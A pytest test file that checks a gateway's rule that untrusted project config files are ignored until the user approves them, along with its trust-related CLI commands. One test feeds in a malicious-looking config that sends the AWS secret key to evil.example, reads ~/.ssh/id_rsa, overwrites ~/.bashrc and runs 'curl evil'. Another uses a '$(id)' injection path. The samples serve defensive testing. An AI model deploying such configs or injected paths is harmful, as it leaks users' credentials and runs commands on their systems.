"""Configuration files that the user neither placed nor approved are not obeyed: the rules, and the commands about them."""

from __future__ import annotations

import json
import os
import pty
import select
import stat
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import msgspec
import pytest
from msgspec import inspect

from athena.asgi import create_app
from athena.errors import ConfigError
from athena.shells.cli import main
from athena.shells.config import Config, ConfigWatcher, Sources, TrustStanding, TrustStore, load
from athena.shells.config import model as model_module
from athena.shells.config import sources as sources_module
from athena.shells.config.check import struct_fields
from athena.shells.config.effects import effects
from athena.shells.config.trust import digest, trust_command
from athena.shells.config.yaml_lines import read_yaml
from athena.transport import Transport
from support.athena_process import Result, environment, start_athena
from support.patience import PATIENCE
from support.trusted_files import trust

IGNORED = "athena.yml: not used, because it is not trusted (to use it: athena config trust {})"
CHANGED = "athena.yml: not used, because it changed since it was trusted (to use it: athena config trust {})"


class Place:
    """A home, and a directory with an `athena.yml`."""

    def __init__(self, root: Path) -> None:
        self.home, self.directory = root / "home", root / "project"
        self.file = self.directory / "athena.yml"
        self.own_file = self.home / ".config" / "athena" / "athena.yml"
        self.directory.mkdir()
        self.own_file.parent.mkdir(parents=True)

    def sources(self, **changes: Any) -> Sources:
        return Sources(**{"directory": self.directory, "home": self.home, **changes})

    def said(self) -> list[str]:
        return [str(problem) for problem in load(self.sources()).ignored]


@pytest.fixture
def place(tmp_path: Path) -> Place:
    return Place(tmp_path)


# -- the rules -------------------------------------------------------------------------------------------------------------


def test_a_file_of_the_directory_counts_only_when_it_is_trusted(place: Place) -> None:
    place.file.write_text("port: 2001")
    loaded = load(place.sources())
    assert loaded.config == Config()
    assert loaded.files == ()
    assert [str(problem) for problem in loaded.warnings] == [IGNORED.format(place.file)]
    assert loaded.ignored == loaded.warnings
    assert [(found.file, found.standing) for found in loaded.found] == [(place.file, TrustStanding.UNTRUSTED)]

    trust(place.file, place.home)
    loaded = load(place.sources())
    assert loaded.config.port == 2001
    assert (loaded.files, loaded.warnings) == ((place.file,), ())
    assert loaded.found[0].standing is TrustStanding.TRUSTED

    place.file.write_text("port: 2001\n")
    loaded = load(place.sources())
    assert loaded.config == Config()
    assert [str(problem) for problem in loaded.warnings] == [CHANGED.format(place.file)]
    assert loaded.found[0].standing is TrustStanding.CHANGED
    place.file.write_text("port: 2001")
    assert load(place.sources()).config.port == 2001, "the approved bytes are back"


def test_the_users_own_files_need_no_approval(place: Place) -> None:
    place.own_file.write_text("port: 2002")
    place.file.write_text("port: 2001")
    loaded = load(place.sources())
    assert loaded.config.port == 2002
    assert [found.standing for found in loaded.found] == [TrustStanding.OWN, TrustStanding.UNTRUSTED]
    explicit = load(place.sources(config_file=place.file))
    assert explicit.config.port == 2001
    assert [found.standing for found in explicit.found] == [TrustStanding.EXPLICIT]
    assert load(place.sources(directory=place.own_file.parent)).ignored == ()


def test_the_systems_directory_needs_no_approval(place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sources_module, "SYSTEM_DIRECTORY", place.directory)
    place.file.write_text("port: 2001")
    assert load(place.sources()).config.port == 2001
    place.file.chmod(0o666)
    with pytest.raises(ConfigError, match="chmod go-w"):
        load(place.sources())


def test_approval_is_for_a_place(place: Place) -> None:
    place.file.write_text("port: 2001")
    trust(place.file, place.home)
    other = place.directory / "other"
    other.mkdir()
    (other / "athena.yml").write_text("port: 2001")
    assert load(place.sources(directory=other)).config == Config()
    (place.directory / "door").symlink_to(place.directory)
    assert load(place.sources(directory=place.directory / "door")).config.port == 2001, "the same directory by another name"
    assert load(place.sources(home=other)).config == Config(), "approved by somebody else"
    variable = {"ATHENA_STATE_DIR": str(place.home / ".local/state/athena")}
    assert load(place.sources(home=other, environment=variable)).config.port == 2001


def test_a_file_that_is_not_trusted_is_not_even_opened(place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
    os.mkfifo(place.file)  # would be waited for
    opened: list[Any] = []
    real_open = os.open

    def watched(path: Any, *arguments: Any, **names: Any) -> int:
        opened.append(path)
        return real_open(path, *arguments, **names)

    monkeypatch.setattr(os, "open", watched)
    assert place.said() == [IGNORED.format(place.file)]
    assert place.file not in opened


def test_a_link_is_judged_by_what_it_leads_to(place: Place, tmp_path: Path) -> None:
    target = tmp_path / "target.yml"
    target.write_text("port: 2001")
    place.file.symlink_to(target)
    assert place.said() == [IGNORED.format(place.file)]
    trust(place.file, place.home)
    assert load(place.sources()).config.port == 2001
    target.write_text("port: 2002")
    assert place.said() == [CHANGED.format(place.file)]


def test_the_bytes_that_were_approved_are_the_bytes_that_are_read(place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
    """Somebody replaces the file between the look at its hash and its use."""
    place.file.write_text("port: 2001")
    trust(place.file, place.home)
    real_digest = digest
    opened = 0
    real_open = os.open

    def swapped(data: bytes) -> str:
        place.file.write_text("port: 6666")
        return real_digest(data)

    def counted(path: Any, *arguments: Any, **names: Any) -> int:
        nonlocal opened
        opened += path == place.file
        return real_open(path, *arguments, **names)

    monkeypatch.setattr(sources_module, "digest", swapped)
    monkeypatch.setattr(os, "open", counted)
    assert load(place.sources()).config.port == 2001
    assert opened == 1


@pytest.mark.parametrize("bits", [0o666, 0o602, 0o646])
def test_a_file_that_others_can_write_stops_the_start(place: Place, bits: int) -> None:
    place.own_file.write_text("port: 2002")
    place.own_file.chmod(bits)
    with pytest.raises(
        ConfigError, match=f"athena.yml: others can write this file .mode {bits:o}. .chmod go-w {place.own_file}"
    ):
        load(place.sources())
    assert load(place.sources(config_file=place.own_file)).config.port == 2002, "named by the user"


def test_a_file_of_another_user_stops_the_start(place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
    place.own_file.write_text("port: 2002")
    if os.getuid() == 0:
        os.chown(place.own_file, 4321, 4321)
    else:
        monkeypatch.setattr(os, "geteuid", lambda: os.getuid() + 4321)
    with pytest.raises(ConfigError, match=r"athena\.yml: belongs to another user .uid \d+. .make it your own: chown"):
        load(place.sources())


def test_a_linked_file_of_ones_own_is_used(place: Place, tmp_path: Path) -> None:
    """As those who keep their settings in a repository of their own do it."""
    dotfiles = tmp_path / "dotfiles.yml"
    dotfiles.write_text("port: 2002")
    place.own_file.symlink_to(dotfiles)
    assert load(place.sources()).config.port == 2002
    dotfiles.chmod(0o666)
    with pytest.raises(ConfigError, match="others can write"):
        load(place.sources())


def test_approvals_that_others_could_have_written_do_not_count(place: Place) -> None:
    place.file.write_text("port: 2001")
    trust(place.file, place.home)
    for directory in (place.home / ".local/state/athena", place.home / ".local/state/athena" / "trusted"):
        directory.chmod(0o777)
        loaded = load(place.sources())
        assert loaded.config == Config()
        assert f"chmod go-w {directory}" in str(loaded.ignored[0])
        directory.chmod(0o700)
    assert load(place.sources()).config.port == 2001
    record = TrustStore(place.home / ".local/state/athena").record(place.file)
    assert stat.S_IMODE(record.stat().st_mode) == 0o600
    record.write_text("{")
    assert place.said() == [IGNORED.format(place.file)]
    record.unlink()
    record.symlink_to(place.file)
    assert f"{record} is a symbolic link" in place.said()[0]


def test_the_command_can_be_copied(tmp_path: Path) -> None:
    assert trust_command(tmp_path / "$(id) x" / "athena.yml") == f"athena config trust '{tmp_path}/$(id) x/athena.yml'"
    assert trust_command(tmp_path / "a\x1b[2J\nb" / "athena.yml") == "athena config trust"


# -- while a gateway runs --------------------------------------------------------------------------------------------------


def test_a_reload_takes_only_what_is_trusted(place: Place) -> None:
    place.file.write_text("port: 2001")
    trust(place.file, place.home)
    watcher = ConfigWatcher(place.sources())
    assert not watcher.changed()
    place.file.write_text("port: 2002\n")
    assert watcher.changed()
    with pytest.raises(ConfigError, match=r"it changed since it was trusted .to use it: athena config trust"):
        watcher.reload()
    assert watcher.config.port == 2001
    assert not watcher.changed()

    trust(place.file, place.home)
    assert watcher.changed(), "that it was approved is a change"
    assert watcher.reload().port == 2002

    TrustStore(place.home / ".local/state/athena").forget(place.file)
    assert watcher.changed()
    with pytest.raises(ConfigError, match="it is not trusted"):
        watcher.reload()
    assert watcher.config.port == 2002


def test_a_file_that_appears_while_a_gateway_runs(place: Place) -> None:
    place.own_file.write_text("port: 2001")
    watcher = ConfigWatcher(place.sources())
    place.file.write_text("port: 6666")
    assert watcher.changed()
    assert watcher.reload().port == 2001
    assert [str(problem) for problem in watcher.loaded.ignored] == [IGNORED.format(place.file)]
    trust(place.file, place.home)
    assert watcher.changed()
    assert watcher.reload().port == 6666


# -- inside another program ------------------------------------------------------------------------------------------------


def test_the_library_says_what_it_ignores(
    place: Place, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    place.file.write_text("base_url: http://127.0.0.1:9\nmodel: evil\n")
    monkeypatch.chdir(place.directory)
    monkeypatch.setenv("HOME", str(place.home))
    for name in [name for name in os.environ if name.startswith("ATHENA_") or name.endswith("_API_KEY")]:
        monkeypatch.delenv(name)
    for start in (create_app, Transport):
        with pytest.raises(ConfigError) as caught:
            start()
        assert IGNORED.format(place.file) in str(caught.value)
    Transport(base_url="http://127.0.0.1:10").close()
    assert IGNORED.format(place.file) in caplog.text
    trust(place.file, place.home)
    caplog.clear()
    assert create_app().config.upstreams["default"].base_url == "http://127.0.0.1:9"
    assert not caplog.text


# -- what a file does ------------------------------------------------------------------------------------------------------


def shown(text: str) -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    for effect in effects(*read_yaml(text, "f")):
        found.setdefault(effect.kind, []).append(effect.setting)
    return found


def test_what_matters_is_shown() -> None:
    found = shown("""
upstreams:
  a:
    base_url: https://user:hunter2@evil.example/v1
    api_key: "${OPENROUTER_API_KEY}"
    headers: {x-stolen: "${AWS_SECRET_ACCESS_KEY}", x-own: hunter2, x-mixed: "hunter2 ${HOME:-x} $${NOT}"}
    proxy: http://user:hunter2@proxy.example:1
    api_key_file: ~/.ssh/id_rsa
    verify: off
    forward_client_key: true
models: [{match: "*", use: a, body: {deep: [{text: "${PROMPT}"}]}, provider: {order: [x]}}]
log: {file: ~/.bashrc, sse_dir: frames, level: debug}
state_dir: ${STATE}
host: 0.0.0.0
keys: [{name: me, hash: "sha256:00"}, hunter2]
tool_adapter: {prompt_template: "Do %s"}
opus_provider: {only: [y]}
api_key_env: KEY
on_start_command: "curl evil"
port: 1
""")
    assert found == {
        "sends requests, with all they hold, to": [
            "upstreams.a.base_url: https://***@evil.example/v1",
            "upstreams.a.proxy: http://***@proxy.example:1",
        ],
        "reads the environment variables": [
            "OPENROUTER_API_KEY (for upstreams.a.api_key)",
            "AWS_SECRET_ACCESS_KEY (for upstreams.a.headers.x-stolen)",
            "HOME (for upstreams.a.headers.x-mixed)",
            "PROMPT (for models[0].body.deep[0].text)",
            "STATE (for state_dir)",
            "api_key_env: KEY",
        ],
        "adds to every request": [
            "upstreams.a.headers.x-stolen: ${AWS_SECRET_ACCESS_KEY}",
            "upstreams.a.headers.x-own: ***",
            "upstreams.a.headers.x-mixed: ***",
        ],
        "reads the files": ["upstreams.a.api_key_file: ~/.ssh/id_rsa"],
        "writes the files and directories": ["log.file: ~/.bashrc", "log.sse_dir: frames", "state_dir: ${STATE}"],
        "decides who can use the gateway": ["host: 0.0.0.0", "keys[0].name: me", "keys[0].hash: ***", "keys[1]: ***"],
        "takes protection away": [
            "upstreams.a.verify: off",
            "upstreams.a.forward_client_key: True",
            "log.level: debug",
        ],
        "puts into prompts and requests": [
            "models[0].body.deep[0].text: ${PROMPT}",
            "models[0].provider.order[0]: x",
            "tool_adapter.prompt_template: Do %s",
            "opus_provider.only[0]: y",
        ],
        "names commands": ["on_start_command: curl evil"],
    }


def test_nothing_in_a_file_reaches_the_terminal_as_it_is() -> None:
    value = "\x1b[2J\x07\u202e\u2028a"
    text = json.dumps({"base_url": value, "log": {"file": "x" * 100_000}, "headers": {value: "${X}"}})
    for settings in shown(text).values():
        for setting in settings:
            assert setting.isprintable()
            assert len(setting) < 300


def test_every_setting_that_names_a_place_or_a_secret_is_shown() -> None:
    """A setting that is added later under such a name must not slip through."""
    telling = ("_file", "_dir", "_url", "_env", "proxy", "headers", "body", "template")
    silent = set()
    for struct in vars(model_module).values():
        if not (isinstance(struct, type) and issubclass(struct, msgspec.Struct)):
            continue
        for name, field in struct_fields(struct).items():
            if name.endswith(telling) and not isinstance(field.type, inspect.BoolType):
                value: Any = {"k": "v"} if isinstance(field.type, inspect.DictType) else "v"
                if not effects({name: value}, {}):
                    silent.add(name)
    assert silent == set()


# -- the commands ----------------------------------------------------------------------------------------------------------


Run = Callable[..., Result]


@pytest.fixture
def in_project(place: Place, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Run:
    """The program in the project, within this process: a start for each of many commands would take long."""
    monkeypatch.chdir(place.directory)
    monkeypatch.setenv("HOME", str(place.home))
    for name in [name for name in os.environ if name.startswith("ATHENA_") or name.endswith("_API_KEY")]:
        monkeypatch.delenv(name)

    def run(*arguments: str) -> Result:
        monkeypatch.setattr(sys, "argv", ["athena", *arguments])
        code = main()
        said = capsys.readouterr()
        return Result(code, said.out, said.err)

    return run


def on_terminal(place: Place, answer: str, *arguments: str) -> tuple[int, str]:
    """A command with a person at the keyboard."""
    master, slave = pty.openpty()
    process = start_athena(arguments, (slave, slave, slave), place.directory, environment(place.home))
    os.close(slave)
    os.write(master, answer.encode())
    text = b""
    while select.select([master], [], [], PATIENCE)[0]:
        try:
            data = os.read(master, 65536)
        except OSError:
            break
        if not data:
            break
        text += data
    os.close(master)
    return process.wait(PATIENCE), text.decode()


def test_trust_shows_asks_and_remembers(place: Place, in_project: Run) -> None:
    place.file.write_text("base_url: http://127.0.0.1:9\nport: 2001\n")
    refused = in_project("config", "trust")
    assert refused.code == 1
    assert "base_url: http://127.0.0.1:9  (line 1)" in refused.out
    assert "say --yes" in refused.err
    code, text = on_terminal(place, "n\n", "config", "trust")
    assert code == 1
    assert "is not trusted" in text
    assert place.said() == [IGNORED.format(place.file)]
    code, text = on_terminal(place, "y\n", "config", "trust")
    assert code == 0
    assert "Use this file? [y/N]" in text
    assert f"{place.file} is trusted as it is now" in text
    assert load(place.sources()).config.port == 2001
    again = in_project("config", "trust")
    assert (again.code, "is trusted already" in again.out) == (0, True)


def test_trust_takes_a_file_or_a_directory(place: Place, in_project: Run) -> None:
    place.file.write_text("port: 2001\n")
    for path in (str(place.file), str(place.directory), "athena.yml", ".", "../project/athena.yml"):
        assert in_project("config", "trust", "--yes", path).code == 0
        assert load(place.sources()).config.port == 2001
        assert in_project("config", "untrust", path).code == 0
        assert place.said() == [IGNORED.format(place.file)]
    gone = in_project("config", "untrust")
    assert gone.code == 1
    assert "was not trusted" in gone.err


def test_what_cannot_be_trusted(place: Place, in_project: Run) -> None:
    for text, words in (("port: [", "not valid YAML"), (None, "does not exist")):
        if text is None:
            place.file.unlink()
        else:
            place.file.write_text(text)
        result = in_project("config", "trust", "--yes")
        assert result.code == 1
        assert words in result.err
    other = in_project("config", "trust", "--yes", "team.yml")
    assert other.code == 1
    assert "--config team.yml" in other.err
    place.own_file.write_text("port: 1\n")
    own = in_project("config", "trust", str(place.own_file))
    assert own.code == 0
    assert "used without being trusted" in own.out
    place.file.write_text("port: 2001\n")
    (place.home / ".local/state/athena").mkdir(parents=True, exist_ok=True)
    (place.home / ".local/state/athena").chmod(0o777)
    unsafe = in_project("config", "trust", "--yes")
    assert unsafe.code == 1
    assert "chmod go-w" in unsafe.err


def test_the_list_of_trusted_files(place: Place, tmp_path: Path, in_project: Run) -> None:
    assert in_project("config", "trust", "--list").out == "No file is trusted.\n"
    for name in ("a", "b", "c"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "athena.yml").write_text("port: 1\n")
        trust(tmp_path / name / "athena.yml", place.home)
    (tmp_path / "b" / "athena.yml").write_text("port: 2\n")
    (tmp_path / "c" / "athena.yml").unlink()
    lines = in_project("config", "trust", "--list").out.splitlines()
    assert [line.partition("athena.yml  ")[2].partition("  (")[0] for line in lines] == [
        "trusted",
        "changed since, not used",
        "gone or not readable",
    ]
    assert in_project("config", "untrust", str(tmp_path / "c" / "athena.yml")).code == 0
    assert len(in_project("config", "trust", "--list").out.splitlines()) == 2


def test_check_and_show_say_which_files_count(place: Place, in_project: Run) -> None:
    place.file.write_text("port: 2001\n")
    place.own_file.write_text("workers: 3\n")
    checked = in_project("config", "check")
    assert (checked.code, checked.err) == (0, f"warning: {IGNORED.format(place.file)}\n")
    assert f"({place.own_file}, in a configuration directory)" in checked.out
    shown_text = in_project("config", "show", "--set")
    assert shown_text.err == f"athena: warning: {IGNORED.format(place.file)}\n"
    assert shown_text.out.startswith(f"# read: {place.own_file}, in a configuration directory\n")
    assert "2001" not in shown_text.out
    assert in_project("config", "trust", "--yes").code == 0
    assert f"{place.file}, trusted)" in in_project("config", "check").out
    assert "port: 2001" in in_project("config", "show", "--set").out
    named = in_project("config", "check", "athena.yml")
    assert "athena.yml, named by --config or ATHENA_CONFIG)" in named.out


def test_what_init_writes_is_trusted_until_it_is_edited(place: Place, in_project: Run) -> None:
    made = in_project("config", "init")
    assert "athena config trust" in made.out
    assert place.said() == []
    place.file.write_text(place.file.read_text() + "\n")
    assert place.said() == [CHANGED.format(place.file)]
    assert in_project("config", "init", "--force").code == 0
    assert place.said() == []
    own = in_project("config", "init", str(place.own_file))
    assert "athena config trust" not in own.out
    elsewhere = place.directory / "elsewhere"
    elsewhere.write_text("not to be touched")
    place.file.unlink()
    place.file.symlink_to(elsewhere)
    assert in_project("config", "init", "--force").code == 1
    assert elsewhere.read_text() == "not to be touched"
